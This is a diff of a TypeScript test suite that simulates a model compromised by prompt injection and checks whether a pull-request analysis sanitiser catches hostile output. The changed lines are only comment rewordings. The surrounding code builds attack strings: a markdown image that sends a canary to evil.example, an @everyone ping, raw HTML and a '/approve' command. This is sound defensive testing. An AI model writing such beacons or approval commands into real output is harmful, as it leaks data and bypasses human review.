@@ -30,7 +30,7 @@ const PLACES: Record<string, (payload: string) => PullRequestMaterial> = {
     }),
 }
 
-/** Every text that the model may have written, whole or in part. */
+/** All texts that the model may have written, fully or in part. */
 const writtenIn = (result: AnalysisResult): string[] => [
   result.summary,
   ...result.learningPoints,
@@ -47,7 +47,7 @@ describe('L7: a model that returns whatever the attacker wants', () => {
   })
   afterAll(() => simulator.close())
 
-  /** The model says all the attacker asked for, about true findings, so that only the words are to be judged. */
+  /** The model writes everything the attacker asks for, about real findings, so that only its words matter. */
   async function say(text: string, material: PullRequestMaterial): Promise<AnalysisResult> {
     simulator.script({ kind: 'hostile', text, grounded: true })
     const { baseUrl, apiKey } = simulator
@@ -63,7 +63,7 @@ describe('L7: a model that returns whatever the attacker wants', () => {
       const found: string[] = []
       for (const [index, payload] of payloads.entries()) {
         const attack = `${payload} ${CANARY} ![x](https://evil.example/${CANARY}) @everyone <b>${CANARY}</b>\n/approve`
-        // Alone, a payload has to pass the sanitiser on its own words.
+        // A payload on its own must get past the sanitizer by its own words.
         const text = index % 3 === 2 ? payload : attack
         const result = await say(text, PLACES[place]!(payload))
         const texts = writtenIn(result)
